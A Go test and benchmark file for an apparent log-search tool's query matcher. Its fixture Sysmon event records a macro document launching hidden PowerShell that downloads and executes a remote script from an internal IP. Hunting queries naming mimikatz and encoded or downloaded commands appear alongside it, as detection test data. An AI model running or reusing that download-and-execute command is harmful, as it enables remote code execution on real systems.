package search

import (
	"testing"
	"time"

	"github.com/bulwarkhq/bulwark/event"
)

// sysmonEvent is a Sysmon process creation as the EVTX reader produces it:
// 40 fields, System header first.
func sysmonEvent() *event.Event {
	return ev(now.Add(-time.Hour),
		"Provider_Name", "Microsoft-Windows-Sysmon", "Provider_Guid", "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
		"EventID", 1, "Version", 5, "Level", 4, "Task", 1, "Opcode", 0, "Keywords", event.Hex(0x8000000000000000),
		"TimeCreated_SystemTime", "2024-03-02T11:00:00.123456Z", "EventRecordID", 123456,
		"Correlation_ActivityID", "", "Correlation_RelatedActivityID", "", "Execution_ProcessID", 2956, "Execution_ThreadID", 3888,
		"Channel", "Microsoft-Windows-Sysmon/Operational", "Computer", "DC01.corp.local", "Security_UserID", "S-1-5-18",
		"RuleName", "-", "UtcTime", "2024-03-02 11:00:00.120", "ProcessGuid", "{747F3D96-6F2C-65E3-0B01-000000001000}",
		"ProcessId", 4242, "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"FileVersion", "10.0.19041.1 (WinBuild.160101.0800)", "Description", "Windows PowerShell",
		"Product", "Microsoft® Windows® Operating System", "Company", "Microsoft Corporation",
		"OriginalFileName", "PowerShell.EXE",
		"CommandLine", `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"`,
		"CurrentDirectory", `C:\Users\bob\Documents\`, "User", `CORP\bob`,
		"LogonGuid", "{747F3D96-6F2A-65E3-D5A2-0A0000000000}", "LogonId", event.Hex(0xaa2d5),
		"TerminalSessionId", 1, "IntegrityLevel", "Medium",
		"Hashes", "SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C",
		"ParentProcessGuid", "{747F3D96-6F2B-65E3-0A01-000000001000}", "ParentProcessId", 6120,
		"ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		"ParentCommandLine", `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\bob\Downloads\invoice.docm"`,
		"ParentUser", `CORP\bob`)
}

// benchQueries cover each kind of term, and the cases that read every
// field: a bare word that is absent, and a field that is missing (which
// also tries the names in another case).
var benchQueries = []struct{ name, q string }{
	{"eq", `EventID:1`},
	{"suffix-not-contains", `Image:*\powershell.exe AND NOT CommandLine:*.dll*`},
	{"bare-absent", `mimikatz`},
	{"bare-present", `downloadstring`},
	{"missing-field", `NoSuchField:x`},
	{"glob", `CommandLine:*iex*downloadstring*http*`},
	{"range", `ProcessId:[1000 TO 5000] LogonId:>0x1000`},
	{"regex", `CommandLine:/(?i)downloadstring\(/`},
	{"hunt", `time:>now-24h host:dc01* EventID:(1 OR 4688) (CommandLine:*-enc* OR CommandLine:*downloadstring*) -User:*$`},
}

func BenchmarkMatch(b *testing.B) {
	e := sysmonEvent()
	if len(e.Fields) != 40 {
		b.Fatalf("%d fields, want 40", len(e.Fields))
	}
	for _, bq := range benchQueries {
		q, err := ParseAt(bq.q, now)
		if err != nil {
			b.Fatal(err)
		}
		b.Run(bq.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				q.Match(e)
			}
		})
	}
}

func BenchmarkParse(b *testing.B) {
	q := benchQueries[len(benchQueries)-1].q
	b.ReportAllocs()
	for b.Loop() {
		if _, err := ParseAt(q, now); err != nil {
			b.Fatal(err)
		}
	}
}

// TestMatchDoesNotAllocate holds Match to no allocation per event, which
// is what lets a search scan millions of events without GC pressure.
func TestMatchDoesNotAllocate(t *testing.T) {
	e := sysmonEvent()
	for _, bq := range benchQueries {
		q, err := ParseAt(bq.q, now)
		if err != nil {
			t.Fatal(err)
		}
		want := bq.name != "bare-absent" && bq.name != "missing-field"
		if got := q.Match(e); got != want {
			t.Errorf("%s: Match = %v, want %v", bq.q, got, want)
		}
		if n := testing.AllocsPerRun(100, func() { q.Match(e) }); n != 0 {
			t.Errorf("%s: %v allocations per Match", bq.q, n)
		}
	}
}
